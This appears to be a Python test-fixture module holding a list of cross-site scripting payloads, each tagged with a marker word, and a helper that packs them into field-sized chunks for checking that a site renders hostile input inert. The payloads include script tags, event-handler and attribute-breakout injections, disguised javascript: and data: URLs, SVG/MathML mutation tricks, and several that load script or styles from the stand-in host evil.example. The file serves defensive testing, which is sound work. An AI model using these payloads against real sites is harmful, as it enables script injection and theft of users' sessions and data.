"""Hostile input: what someone would type into a field to make the site run their code.

Each payload carries the marker ``ffxss`` as a word of its own, so a test can tell that the text
reached the page (and so was there to be made inert) instead of passing because it vanished.
"""

MARKER = "ffxss"

PAYLOADS = [
    # Plain script tags, in several cases and shapes
    '<script>alert("ffxss")</script>',
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT> ffxss",
    '<script type="module">import("//evil.example/x.js")</script> ffxss',
    # Event handlers on all sorts of elements
    '<img src=x onerror=alert("ffxss")>',
    '<body onload=alert("ffxss")>',
    "<input autofocus onfocus=alert(1)> ffxss",
    "<details open ontoggle=alert(1)> ffxss",
    '<video><source onerror="alert(1)"></video> ffxss',
    # Breaking out of attributes, titles and text areas
    '" onmouseover="alert(1)" x=" ffxss',
    "' onmouseover='alert(1)' x=' ffxss",
    '"><img src=x onerror=alert(1)> ffxss',
    "</title><script>alert(1)</script> ffxss",
    "</textarea><script>alert(1)</script> ffxss",
    "</script><script>alert(1)</script> ffxss",
    # javascript:, data: and vbscript: URLs, disguised
    '<a href="javascript:alert(1)">ffxss</a>',
    '<a href="JaVaScRiPt:alert(1)">ffxss</a>',
    '<a href=" &#106;avascript:alert(1)">ffxss</a>',
    '<a href="java&#x09;script:alert(1)">ffxss</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ffxss</a>',
    '<a href="vbscript:msgbox(1)">ffxss</a>',
    "javascript:alert(1) ffxss",
    '<form action="javascript:alert(1)"><button>ffxss</button></form>',
    '<iframe src="javascript:alert(1)"></iframe> ffxss',
    # SVG and MathML
    '<svg onload=alert("ffxss")>',
    "<svg><script>alert(1)</script></svg> ffxss",
    '<svg><a xlink:href="javascript:alert(1)"><text>ffxss</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style> ffxss",
    # Encoded: already-escaped and URL-encoded text must stay text
    "&lt;script&gt;alert(1)&lt;/script&gt; ffxss",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E ffxss",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e ffxss",
    # Broken and nested markup
    "<scr<script>ipt>alert(1)</scr</script>ipt> ffxss",
    "<img src=x onerror=alert(1)// ffxss",
    "<<script>script>alert(1)<</script>/script> ffxss",
    '<!--<img src="--><img src=x onerror=alert(1)//"> ffxss',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"> ffxss',
    "]]><script>alert(1)</script> ffxss",
    # Other ways to load or redirect
    '<object data="data:text/html,<script>alert(1)</script>"></object> ffxss',
    '<embed src="javascript:alert(1)"> ffxss',
    '<base href="https://evil.example/"> ffxss',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"> ffxss',
    '<link rel="stylesheet" href="https://evil.example/x.css"> ffxss',
    '<style>@import "https://evil.example/x.css";</style> ffxss',
    '<div style="background:url(javascript:alert(1))">ffxss</div>',
    # Template syntax and odd characters
    "{{ 7|add:7 }} {% now 'Y' %} ffxss",
    "\u202e<script>alert(1)</script> ffxss \u2028",
]


def chunks(limit: int = 200) -> list[str]:
    """The payloads joined into as few texts as fit a field of `limit` characters, in order.

    One hostile world per chunk keeps the tests quick, and payloads side by side test one
    more thing: a quote or tag one leaves open must not arm the next.
    """
    grouped: list[str] = []
    for payload in PAYLOADS:
        if grouped and len(grouped[-1]) + 1 + len(payload) <= limit:
            grouped[-1] += " " + payload
        else:
            grouped.append(payload)
    return grouped
